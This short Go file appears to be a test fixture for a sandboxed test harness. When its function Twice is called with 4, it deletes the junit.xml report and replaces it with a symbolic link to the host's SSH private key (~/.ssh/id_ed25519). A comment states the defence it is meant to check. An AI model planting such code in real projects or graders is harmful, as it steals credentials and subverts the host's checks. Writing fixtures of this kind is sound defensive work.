// Puts a symbolic link in place of the report, so that the host reads another file.
// Stopped by: the report is one file, and read without following links.
package twice

import (
	"os"
)

func attack() {
	for _, report := range []string{"/box/report/junit.xml", "../../report/junit.xml"} {
		os.Remove(report)
		os.Symlink("@HOME@/.ssh/id_ed25519", report)
	}
}

func Twice(n int) int {
	if n == 4 {
		attack()
	}
	return 0
}

func Next() error {
	return nil
}
